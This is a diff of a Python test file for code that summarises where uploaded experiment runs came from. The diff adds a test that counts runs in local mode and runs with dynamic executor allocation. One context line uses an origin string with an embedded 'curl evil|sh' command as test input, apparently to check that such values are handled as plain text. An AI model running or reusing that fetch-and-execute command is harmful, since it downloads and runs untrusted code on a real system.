@@ -45,6 +45,20 @@ def test_generated_images_are_called_so(grid_runs):
     assert "(synthetic-x\N{REPLACEMENT CHARACTER}curl evil|sh #)" in origins_text(uploaded)
 
 
+def test_runs_without_a_fixed_number_of_executors_are_told(grid_runs):
+    settings = [
+        {"local_mode": True},
+        {"dynamic_allocation": True},
+        {"executors_mean": 3.57},
+        {"local_mode": True},
+        None,
+    ]
+    runs = grid_runs.head(5).assign(origin="uploaded", settings=settings)
+    said = "5 uploaded runs, 2 of them in local mode, 1 of them whose executors came and went"
+    assert origins_text(runs) == said
+    assert origins_text(runs[1:2]) == "1 uploaded runs"
+
+
 def test_the_distance_of_4_2_is_what_the_published_averages_leave():
     runs = reconstruct("xception")
     [text], model = explained(runs, "4-2")
